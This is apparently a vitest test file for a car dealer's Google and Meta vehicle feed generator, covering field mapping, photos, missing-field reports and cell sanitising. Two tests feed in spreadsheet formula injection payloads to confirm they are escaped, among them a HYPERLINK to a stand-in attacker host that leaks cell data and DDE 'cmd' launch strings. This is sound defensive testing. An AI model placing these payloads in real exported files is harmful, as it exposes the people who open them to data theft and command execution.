import { describe, expect, it } from 'vitest';
import { googleVehicleAdsFeed, metaVehicleCatalogFeed } from '../../../src/views/inventory-feed-files';
import { cellOf, neutraliseFormula, textCell } from '../../../src/domain/inventory-feeds/delimited';
import {
  GOOGLE_COLUMNS,
  GOOGLE_NUMBER_COLUMNS,
  googleBodyStyle,
  googleEngine,
  googlePriceType,
  googleVehicleAd,
} from '../../../src/domain/inventory-feeds/google-vehicle-ads';
import {
  META_COLUMNS,
  META_NUMBER_COLUMNS,
  metaBodyStyle,
  metaDrivetrain,
  metaFuelType,
  metaTransmission,
  metaVehicle,
} from '../../../src/domain/inventory-feeds/meta-vehicle-catalog';
import { feedPhotos, notAdvertised, photoFileType, plainDescription } from '../../../src/domain/inventory-feeds/vehicle-values';
import type { CarInput } from '../../../src/domain/schemas';
import { rasterPhotoUrl } from '../../../src/lib/image-cdn';
import '../../../src/lib/image-cdn-every-provider';
import { expectSafeFeed, parseStrictCsv, parseStrictTsv, records } from '../../fixtures/feeds/strict-parse';
import { makeCar, makeConfig, makeLocation } from './fixtures';

const config = makeConfig({
  url: 'https://dealer.example.com/',
  locations: [
    { ...makeLocation({ id: 1, slug: 'brisbane', primary: true }) },
    {
      ...makeLocation({
        id: 2,
        slug: 'gold-coast',
        name: 'Gold Coast',
        address: { street: '5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: 153.4 },
      }),
    },
  ],
  feeds: { store_codes: { 2: 'GC-02' } },
} as never);

/** A used car with everything both platforms require. */
const full = (over: Partial<CarInput> = {}) =>
  makeCar({
    stocknum: 'S123',
    vin: '1fadp5au6dl536022',
    km: 41000,
    colour: 'Soul Red',
    interior_colour: 'Black',
    badge: 'Maxx Sport',
    price: 32990,
    price_type: 'Drive Away',
    simple_body: 'SUV',
    body: 'Wagon',
    simple_fuel: 'Petrol',
    fuel: 'Unleaded Petrol',
    simple_transmission: 'Automatic',
    trans: '6 Speed Automatic',
    drive: 'Front Wheel Drive',
    location_id: '2',
    images: [{ url: '/dealer/img/a.jpg' }, { url: 'https://cdn.example.com/b,c.jpg' }],
    dealercomments: 'One owner.|<p>Full <b>service</b> history &amp; books.</p>',
    ...over,
  });

const row = <R>(out: { row: R } | { missing: string[] }): R => {
  if ('missing' in out) throw new Error(`left out: ${out.missing.join(', ')}`);
  return out.row;
};
const missing = (out: { row: unknown } | { missing: string[] }): string[] => ('missing' in out ? out.missing : []);

describe('cells of the two formats', () => {
  it('TSV: tabs, line breaks, NEL, line and paragraph separators and control characters become single spaces', () => {
    expect(textCell('a\tb\r\nc\u0000d  e \u0085f\u2028g\u2029h\u009bi', 'tsv')).toBe('a b c d e f g h i');
    expect(cellOf(null, 'tsv', false)).toBe('');
    expect(cellOf(12, 'tsv', true)).toBe('12');
  });

  it('CSV: line breaks stay (as \\n, inside the quotes); NEL, separators, tabs and controls become spaces', () => {
    expect(textCell('two\r\nlines\u0085x\u2028y\tz', 'csv')).toBe('two\nlines x y z');
  });

  it('OWASP formula starters get a leading single quote, also after leading spaces or quotes; ordinary text does not', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+2',
      '\r=1+2',
      '  =1+2',
      '"=1+2',
      '\uFF1D1+2',
      // Behind an invisible character (zero width space, word joiner, Mongolian vowel separator, BOM).
      '\u200B=1+2',
      '\u2060=HYPERLINK("http://evil.example")',
      '\u180E+cmd',
      '\uFEFF@SUM(1)',
      ' \u200B\u2060"=1+2',
    ];
    for (const p of payloads) expect(neutraliseFormula(p), JSON.stringify(p)).toBe(`'${p}`);
    for (const format of ['tsv', 'csv'] as const) {
      expect(textCell('\t=1+2', format)).toBe("'=1+2");
      expect(textCell(' \r\n@SUM(A1)', format)).toBe("'@SUM(A1)");
    }
    // Ordinary text, and a text already marked as text by its leading single quote, stay as they are.
    for (const ok of ['Soul Red', '2021 Toyota', 'Mazda CX-5', 'a=b', '5 + 5', '', "'=1+2"]) expect(neutraliseFormula(ok)).toBe(ok);
  });

  it('number columns keep numbers as they are ("-27.47" is a latitude); the same value in a text column is text', () => {
    expect(cellOf(-27.47, 'csv', true)).toBe('-27.47');
    expect(cellOf(-5, 'tsv', false)).toBe("'-5");
    expect(cellOf('-5', 'csv', true)).toBe("'-5");
    expect(cellOf(Number.NaN, 'csv', true)).toBe('');
  });
});

describe('photos the platforms take', () => {
  const svg = (over: Partial<CarInput> = {}) =>
    full({ images: [{ url: '/dealer/img/a.svg' }, { url: 'https://cdn.example.com/b.jpg' }, { url: '/dealer/img/c.svg?2' }], ...over });

  it('file types by extension or data: URL; none when the URL names none', () => {
    expect(['https://x.example/a.JPG?w=1', '/dealer/b.svg', 'data:image/svg+xml;base64,AA', 'https://img.example/photo/123'].map(photoFileType)).toEqual([
      'jpg',
      'svg',
      'svg',
      null,
    ]);
  });

  it('without a CDN: SVG photos are left out and counted; raster photos and URLs without a type stay', () => {
    expect(feedPhotos(svg(), config, ['jpg'])).toEqual({ urls: ['https://cdn.example.com/b.jpg'], refused: ['svg', 'svg'] });
    const out = googleVehicleAd(svg(), config);
    expect(row(out).image_link).toBe('https://cdn.example.com/b.jpg');
    expect(row(out).additional_image_link).toBe('');
    expect((out as { photosRefused: string[] }).photosRefused).toEqual(['svg', 'svg']);
  });

  it('a car with only SVG photos is left out of both feeds, saying what each platform does with it', () => {
    const only = full({ images: [{ url: '/dealer/img/a.svg' }, { url: '/dealer/img/b.svg' }] });
    expect(missing(googleVehicleAd(only, config))).toEqual([
      'image_link (no photo the platform takes: 2 SVG left out; Merchant Center disapproves an offer without an image it can read)',
    ]);
    expect(missing(metaVehicle(only, config))).toEqual([
      'image[0].url (no photo the platform takes: 2 SVG left out; Meta rejects a vehicle without an image it can read)',
    ]);
  });

  it("with an image CDN: the CDN's JPEG of every photo, SVG drawings included where the CDN draws them", () => {
    const wsrv = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ provider: 'wsrv', base_url: null }, u) };
    const r = row(metaVehicle(svg(), wsrv));
    expect(r['image[0].url']).toBe('https://wsrv.nl/?url=dealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&output=jpeg&fit=cover');
    expect([r['image[1].url'], r['image[2].url']].every((u) => typeof u === 'string' && u.includes('output=jpeg'))).toBe(true);
    const template = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ template: 'https://img.example.com/?url={url}&w={width}&fm={format}' }, u) };
    expect(row(googleVehicleAd(svg(), template)).image_link).toBe(
      'https://img.example.com/?url=https%3A%2F%2Fdealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&fm=jpeg',
    );
  });

  it('a CDN that passes SVG through (Cloudflare) or picks the format itself (Vercel) gives no JPEG of a drawing', () => {
    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.svg')).toBeNull();
    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.jpg')).toBe(
      'https://img.dealer.example/cdn-cgi/image/width=1600,f=jpeg,fit=cover/https://dealer.example.com/a.jpg',
    );
    expect(rasterPhotoUrl({ provider: 'vercel', base_url: 'https://dealer.example.com' }, 'https://dealer.example.com/a.jpg')).toBeNull();
    expect(rasterPhotoUrl({ template: 'https://img.example.com/{width}/{url}' }, 'https://dealer.example.com/a.svg')).toBeNull();
    expect(rasterPhotoUrl('none', 'https://dealer.example.com/a.jpg')).toBeNull();
  });
});

describe('Google vehicle ads row', () => {
  it('maps a car to the specification attributes: absolute URLs, price "12345.00 AUD", mileage with its unit, store code from the location', () => {
    const r = row(googleVehicleAd(full(), config));
    expect(r).toMatchObject({
      id: 'S123',
      title: '2021 Toyota Corolla Ascent Sport',
      description: 'One owner. Full service history & books.',
      link: 'https://dealer.example.com/cars/toyota-corolla-2021-101/',
      image_link: 'https://dealer.example.com/dealer/img/a.jpg',
      additional_image_link: 'https://cdn.example.com/b%2Cc.jpg',
      price: '32990.00 AUD',
      vehicle_price_type: 'drive_away_price',
      condition: 'used',
      brand: 'Toyota',
      model: 'Corolla',
      year: 2021,
      mileage: '41000 km',
      VIN: '1FADP5AU6DL536022',
      store_code: 'GC-02',
      'vehicle_fulfillment(option:store_code)': 'in_store:GC-02',
      google_product_category: 'Vehicles & Parts > Vehicles > Motor Vehicles > Cars, Trucks & Vans',
      body_style: 'suv',
      color: 'Soul Red',
      trim: 'Maxx Sport',
      engine: 'gasoline',
      'certified_pre-owned': 'no',
    });
  });

  it('uses the offer price when real, the location id as store code when none is configured, "0 km" for a new car without a reading', () => {
    const r = row(googleVehicleAd(full({ car_type: 'new', km: null, offer_price: 30990, location_id: '1', certified: true }), config));
    expect(r.price).toBe('30990.00 AUD');
    expect(r.store_code).toBe('1');
    expect(r.mileage).toBe('0 km');
    expect(r.condition).toBe('new');
    expect(r['certified_pre-owned']).toBeNull();
  });

  it('a demo car is used; a certified used car is certified_pre-owned yes', () => {
    expect(row(googleVehicleAd(full({ car_type: 'demo', certified: true }), config))).toMatchObject({ condition: 'used', 'certified_pre-owned': 'yes' });
  });

  it('names every required attribute a car lacks', () => {
    const out = googleVehicleAd(full({ vin: null, price: 0, images: [], km: null }), config);
    expect(missing(out)).toEqual(['image_link (no photo)', 'price (no price above $10)', 'mileage (no odometer reading)', 'VIN']);
    expect(missing(googleVehicleAd(full({ vin: 'ABC123' }), config))).toEqual(['VIN (not a VIN: 17 letters and digits without I, O or Q)']);
  });

  it("places a car at the branch its feed names in any spelling, and leaves out one at a branch the dealer does not have rather than use another's store", () => {
    expect(row(googleVehicleAd(full({ location_id: null, location: 'GOLD COAST' }), config)).store_code).toBe('GC-02');
    expect(row(metaVehicle(full({ location_id: null, location: 'gold-coast' }), config))['address.addr1']).toBe('5 Beach Rd');
    const dubbo = full({ location_id: null, location: 'Dubbo' });
    expect(missing(googleVehicleAd(dubbo, config))).toEqual(["store_code (its location matches none of dealer.json's locations)"]);
    expect(missing(metaVehicle(dubbo, config))).toEqual(["address (its location matches none of dealer.json's locations)"]);
  });

  it('Australia: a new car needs a drive-away price, a used car drive-away or excluding government charges, and a known price type', () => {
    expect(missing(googleVehicleAd(full({ car_type: 'new', price_type: 'Excl. Government Charges' }), config))).toEqual([
      'vehicle_price_type (a new car in Australia needs a drive-away price)',
    ]);
    expect(row(googleVehicleAd(full({ price_type: 'EGC' }), config)).vehicle_price_type).toBe('excluding_government_charges_price');
    expect(missing(googleVehicleAd(full({ price_type: null }), config))[0]).toMatch(/^vehicle_price_type/);
    // Outside Australia the attribute is not required.
    const nz = makeConfig({ ...config, lang: 'en-NZ', currency: 'NZD' } as never);
    expect(row(googleVehicleAd(full({ price_type: null }), nz))).toMatchObject({ price: '32990.00 NZD', vehicle_price_type: null });
  });

  it('maps Australian bodies, fuels and price types to Google enumerations', () => {
    const body = (simple_body: string | null, b: string | null = null) => googleBodyStyle({ simple_body, body: b });
    expect([
      body('Hatch'),
      body('Ute', 'Double Cab Pick Up'),
      body('Van'),
      body('Sedan'),
      body('Coupe'),
      body(null, 'Cabriolet'),
      body('People Mover'),
      body(null, 'Wagon'),
      body('Cab Chassis'),
      body('Bus'),
      body(null),
    ]).toEqual(['hatchback', 'truck', 'full size van', 'sedan', 'coupe', 'convertible', 'minivan', 'station wagon', 'truck', null, null]);
    const engine = (fuel: string | null) => googleEngine({ simple_fuel: null, fuel });
    expect([
      engine('Unleaded Petrol'),
      engine('Diesel'),
      engine('Electric'),
      engine('Hybrid (Petrol/Electric)'),
      engine('Plug-in Hybrid (Petrol/Electric)'),
      engine('LPG'),
      engine('Hydrogen'),
      engine(null),
    ]).toEqual(['gasoline', 'diesel', 'electric', 'hybrid', 'plug-in_hybrid', 'lpg', 'other', null]);
    expect([
      googlePriceType('Drive Away'),
      googlePriceType('DAP'),
      googlePriceType('Estimated Drive Away'),
      googlePriceType('excl_govt_charges'),
      googlePriceType('Negotiable'),
    ]).toEqual(['drive_away_price', 'drive_away_price', 'estimated_drive_away_price', 'excluding_government_charges_price', null]);
  });
});

describe('fuel text, read once for both platforms, each in its own order', () => {
  const both = (fuel: string) => [googleEngine({ simple_fuel: null, fuel }), metaFuelType({ simple_fuel: null, fuel })];
  it('a dual-fuel car is what each platform can say: LPG for Google, petrol for Meta (which has no LPG)', () => {
    expect(both('LPG/Petrol Dual Fuel')).toEqual(['lpg', 'PETROL']);
    expect(both('CNG')).toEqual(['natural_gas', 'OTHER']);
  });
  it('flex fuel is FLEX for Meta and petrol for Google (which has no flex value)', () => {
    expect(both('Flex Fuel Petrol')).toEqual(['gasoline', 'FLEX']);
    expect(both('Flex')).toEqual(['other', 'FLEX']);
  });
  it('plug-in before hybrid before the fuels it burns; Australian petrol words; gasoline', () => {
    expect(both('PHEV Petrol/Electric')).toEqual(['plug-in_hybrid', 'PLUGIN_HYBRID']);
    expect(both('Petrol - Electric Hybrid')).toEqual(['hybrid', 'HYBRID']);
    expect(both('Premium ULP')).toEqual(['gasoline', 'PETROL']);
    expect(both('ULP95')).toEqual(['gasoline', 'PETROL']);
    expect(both('PULP 98')).toEqual(['gasoline', 'PETROL']);
    expect(both('E10')).toEqual(['gasoline', 'PETROL']);
    expect(both('Compressed Natural Gas (CNG)')).toEqual(['natural_gas', 'OTHER']);
    expect(both('Gasoline')).toEqual(['gasoline', 'GASOLINE']);
    expect(both('  ')).toEqual([null, null]);
  });
});

describe('Meta automotive catalog row', () => {
  it('maps a car to Meta field names with the location address, enumerations in upper case', () => {
    const r = row(metaVehicle(full({ offer_price: 30990 }), config));
    expect(r).toMatchObject({
      vehicle_id: 'S123',
      url: 'https://dealer.example.com/cars/toyota-corolla-2021-101/',
      make: 'Toyota',
      model: 'Corolla',
      year: 2021,
      'mileage.value': 41000,
      'mileage.unit': 'KM',
      'image[0].url': 'https://dealer.example.com/dealer/img/a.jpg',
      'image[1].url': 'https://cdn.example.com/b,c.jpg',
      state_of_vehicle: 'USED',
      price: '32990.00 AUD',
      sale_price: '30990.00 AUD',
      vin: '1FADP5AU6DL536022',
      body_style: 'SUV',
      transmission: 'AUTOMATIC',
      fuel_type: 'PETROL',
      drivetrain: 'FWD',
      exterior_color: 'Soul Red',
      interior_color: 'Black',
      'address.addr1': '5 Beach Rd',
      'address.city': 'Gold Coast',
      'address.region': 'QLD',
      'address.postal_code': '4217',
      'address.country': 'AU',
      latitude: -28,
      longitude: 153.4,
      dealer_id: 'GC-02',
      dealer_name: 'Gold Coast',
      availability: 'AVAILABLE',
    });
  });

  it('state_of_vehicle: NEW, CPO for a certified used or demo car, else USED', () => {
    expect(row(metaVehicle(full({ car_type: 'new', km: null }), config))).toMatchObject({ state_of_vehicle: 'NEW', 'mileage.value': 0 });
    expect(row(metaVehicle(full({ car_type: 'demo', certified: true }), config)).state_of_vehicle).toBe('CPO');
    expect(row(metaVehicle(full({ car_type: 'demo' }), config)).state_of_vehicle).toBe('USED');
  });

  it('names every required field a car lacks, including the address of its location', () => {
    const noStreet = makeConfig({
      ...config,
      locations: [makeLocation({ id: 1, slug: 'brisbane', address: { street: null, city: 'Brisbane', state: 'QLD', postcode: '4000' } })],
    } as never);
    expect(missing(metaVehicle(full({ colour: null, images: [], location_id: '1' }), noStreet))).toEqual([
      'image[0].url (no photo)',
      'exterior_color',
      'address.addr1 (location brisbane)',
    ]);
  });

  it('maps bodies, fuels, gearboxes and drive to Meta enumerations; an unknown body is OTHER', () => {
    const body = (simple_body: string | null, b: string | null = null) => metaBodyStyle({ simple_body, body: b });
    expect([body('Ute'), body('Cab Chassis'), body('Hatch'), body(null, 'Wagon'), body('Van'), body(null, 'Roadster'), body('Caravan')]).toEqual([
      'PICKUP',
      'TRUCK',
      'HATCHBACK',
      'WAGON',
      'VAN',
      'ROADSTER',
      'OTHER',
    ]);
    expect([
      metaFuelType({ simple_fuel: 'Hybrid', fuel: null }),
      metaFuelType({ simple_fuel: null, fuel: 'Diesel' }),
      metaFuelType({ simple_fuel: null, fuel: null }),
    ]).toEqual(['HYBRID', 'DIESEL', null]);
    expect([metaTransmission({ simple_transmission: null, trans: '6 Speed Manual' }), metaTransmission({ simple_transmission: 'CVT', trans: null })]).toEqual([
      'MANUAL',
      'AUTOMATIC',
    ]);
    expect(['4x4', 'All Wheel Drive', 'Rear Wheel Drive', '4x2', null].map((drive) => metaDrivetrain({ drive }))).toEqual(['4X4', 'AWD', 'RWD', '4X2', null]);
  });
});

describe('whole feeds', () => {
  it('advertise in-stock passenger cars only: sold, coming soon and caravans are counted, not listed as problems', () => {
    expect(notAdvertised(full({ status: 'sold' }))).toBe('sold');
    expect(notAdvertised(full({ sold: true }))).toBe('sold');
    expect(notAdvertised(full({ status: 'coming_soon' }))).toBe('coming soon');
    expect(notAdvertised(full({ item_type: 'Caravan' }))).toBe('not a passenger car (caravan)');
    const cars = [full(), full({ id: 2, slug: 'b', stocknum: 'S2', status: 'sold' }), full({ id: 3, slug: 'c', stocknum: 'S3', item_type: 'caravan' })];
    const feed = googleVehicleAdsFeed(cars, config);
    expect(feed.rows).toBe(1);
    expect(feed.leftOut).toEqual([]);
    expect(feed.notAdvertised).toEqual({ sold: 1, 'not a passenger car (caravan)': 1 });
  });

  it('leave a car out, named with its missing fields, and a second car with the same stock number', () => {
    const cars = [full(), full({ id: 2, slug: 'no-vin', stocknum: 'S2', vin: null }), full({ id: 3, slug: 'dup', stocknum: 'S123' })];
    const feed = metaVehicleCatalogFeed(cars, config);
    expect(feed.rows).toBe(1);
    expect(feed.leftOut).toEqual([
      { id: '2', slug: 'no-vin', name: '2021 Toyota Corolla Ascent Sport', missing: ['vin'] },
      { id: '3', slug: 'dup', name: '2021 Toyota Corolla Ascent Sport', missing: ["id (stock number S123 is also car toyota-corolla-2021-101's)"] },
    ]);
  });

  it('a hostile comment (tabs, line breaks, quotes, commas, NEL, separators) stays inside its one cell in both files', () => {
    const car = full({ dealercomments: 'Line one\tstill\r\nline "two", with commas\u0085and\u2028more|next' });
    const google = parseStrictTsv(googleVehicleAdsFeed([car], config).text);
    expectSafeFeed(google, GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS);
    expect(google).toHaveLength(2);
    expect(records(google)[0]!.description).toBe('Line one still line "two", with commas and more next');
    const meta = parseStrictCsv(metaVehicleCatalogFeed([car], config).text);
    expectSafeFeed(meta, META_COLUMNS, META_NUMBER_COLUMNS);
    expect(meta).toHaveLength(2);
    expect(records(meta)[0]!.description).toBe('Line one still line "two", with commas and more next');
  });

  it('spreadsheet formulas in every text field are neutralised in both files; numbers stay numbers', () => {
    const car = full({
      name: '=HYPERLINK("http://evil.example","Click")',
      make: "+cmd|' /C calc'!A0",
      model: '@SUM(1+1)',
      badge: '\t=1+2',
      colour: '-2+3',
      interior_colour: ' =1',
      dealercomments: '"=IMPORTXML(A1)"',
      stocknum: '=S1',
    });
    const cfg = makeConfig({
      ...config,
      locations: [
        makeLocation({
          id: 2,
          slug: 'gold-coast',
          name: '=Gold Coast',
          address: { street: '@5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: -153.4 },
        }),
      ],
    } as never);
    const google = parseStrictTsv(googleVehicleAdsFeed([car], cfg).text);
    expectSafeFeed(google, GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS);
    expect(records(google)[0]).toMatchObject({
      id: "'=S1",
      title: `'=HYPERLINK("http://evil.example","Click")`,
      brand: "'+cmd|' /C calc'!A0",
      model: "'@SUM(1+1)",
      trim: "'=1+2",
      color: "'-2+3",
      year: '2021',
    });
    const meta = parseStrictCsv(metaVehicleCatalogFeed([car], cfg).text);
    expectSafeFeed(meta, META_COLUMNS, META_NUMBER_COLUMNS);
    expect(records(meta)[0]).toMatchObject({
      interior_color: "'=1",
      description: `'"=IMPORTXML(A1)"`,
      dealer_name: "'=Gold Coast",
      'address.addr1': "'@5 Beach Rd",
      latitude: '-28',
      longitude: '-153.4',
      'mileage.value': '41000',
    });
  });

  it('a car without dealer comments is described by its facts', () => {
    expect(plainDescription(full({ dealercomments: null }), 5000)).toBe('2021 Toyota Corolla Ascent Sport. 41,000 km, Automatic, Petrol, SUV. Soul Red.');
    expect(plainDescription(full({ dealercomments: 'x'.repeat(6000) }), 5000)).toHaveLength(5000);
  });
});
